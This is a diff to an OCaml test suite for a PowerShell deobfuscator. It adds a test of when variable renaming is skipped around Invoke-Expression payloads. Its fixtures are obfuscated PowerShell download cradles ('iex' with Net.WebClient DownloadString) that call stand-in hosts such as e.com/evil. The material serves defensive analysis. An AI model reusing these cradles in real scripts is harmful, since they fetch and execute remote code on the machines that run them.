@@ -71,6 +71,65 @@ let test_rename_skipped_with_residual_payload () =
   check_b "original variable names kept" true
     (Pscommon.Strcase.contains ~needle:"$c2" out)
 
+(* a literal Invoke-Expression payload counted as safe, yet its code
+   assigns $stage, which the script reads: renaming desynchronised the
+   two, and the gate had to roll finalization back *)
+let test_rename_skipped_with_literal_payload () =
+  let script =
+    "$a = 'x'\n\
+     . ('iex') ('$stage = ''http://e.com/p.txt''')\n\
+     (New-Object Net.WebClient).DownloadString($stage)\n"
+  in
+  let options =
+    { Deobf.Engine.default_options with
+      recovery = { Deobf.Recover.default_options with use_multilayer = false } }
+  in
+  check_b "payload's variable kept" true
+    (Pscommon.Strcase.contains ~needle:"($stage)"
+       (Pipeline.output ~options script));
+  (match (fst (Pipeline.run ~options ~verify:true script)).Deobf.Batch.verdict with
+  | Some v -> check_s "verdict" "equivalent" (Deobf.Verify.verdict_name v)
+  | None -> Alcotest.fail "no verdict");
+  (* a payload naming only its own variables cannot desynchronise them *)
+  let own =
+    "$kJh7qZ = 'http://e.com/a'\n\
+     . ('iex') ('$own = ''http://e.com/p.txt''')\n\
+     (New-Object Net.WebClient).DownloadString($kJh7qZ)\n"
+  in
+  check_b "script's variable renamed" true
+    (Pscommon.Strcase.contains ~needle:"$var0 = " (Pipeline.output ~options own));
+  (* a payload that assigns a name renaming would write, runs code built
+     from a string naming the script's variable, splats that variable, or
+     names a function the script defines (or one renaming would write):
+     renaming would hand the payload's name to the script, or take the
+     script's name away from the payload *)
+  List.iter
+    (fun (name, script, kept) ->
+      check_b name true
+        (Pscommon.Strcase.contains ~needle:kept (Pipeline.output ~options script)))
+    [ ( "payload assigns $var0",
+        "$kJh7qZ = 'http://e.com/a'\n\
+         . ('iex') ('$var0 = ''http://e.com/evil''')\n\
+         (New-Object Net.WebClient).DownloadString($kJh7qZ)\n",
+        "$kJh7qZ = " );
+      ( "payload runs code built from a variable",
+        "$kJh7qZ = 'http://e.com/a'\n\
+         . ('iex') ('$c = ''(New-Object Net.WebClient).DownloadString($kJh7qZ)''; iex $c')\n",
+        "$kJh7qZ = " );
+      ( "payload splats the script's variable",
+        "$kJh7qZ = @{ Uri = 'http://e.com/a' }\n\
+         . ('iex') ('Invoke-WebRequest @kJh7qZ')\n",
+        "$kJh7qZ = " );
+      ( "payload calls the script's function",
+        "function xQzkJp { 'http://e.com/a' }\n\
+         . ('iex') ('(New-Object Net.WebClient).DownloadString((xQzkJp))')\n",
+        "function xQzkJp" );
+      ( "payload defines func0",
+        "function xQzkJp { 'http://e.com/a' }\n\
+         . ('iex') ('function func0 { ''http://e.com/evil'' }')\n\
+         (New-Object Net.WebClient).DownloadString((xQzkJp))\n",
+        "function xQzkJp" ) ]
+
 (* replacing a decoded byte array with an int-literal list exploded a 685 KB
    sample into 1.1 MB of digits *)
 let test_recovery_never_grows_pieces () =
@@ -244,8 +303,8 @@ let test_one_path_on_stale_binding () =
    four generators through [Batch.run_source ~verify:true] with one shared
    cache, digested over outputs, verdicts and recovery counts.  A change
    that alters any output, verdict or count moves the digest; update the
-   constant only for a change that means to alter outputs. *)
-let golden_digest = "0fef3c61463c7ae0195c5c3637f4bc01"
+   constant only for a change that means to alter one. *)
+let golden_digest = "e61de33c320cf7e6879e91440f0a93c9"
 
 let test_golden_snapshot () =
   let module G = Corpus.Generator in
@@ -290,6 +349,7 @@ let suite =
     ("member spacing", `Quick, test_member_spacing);
     ("enc param separate argument", `Quick, test_enc_param_separate_argument);
     ("rename skipped with residual payload", `Quick, test_rename_skipped_with_residual_payload);
+    ("rename skipped with literal payload", `Quick, test_rename_skipped_with_literal_payload);
     ("recovery never grows", `Quick, test_recovery_never_grows_pieces);
     ("argument ticks removed", `Quick, test_argument_ticks_removed);
     ("bareword backtick literal", `Quick, test_bareword_backtick_literal);
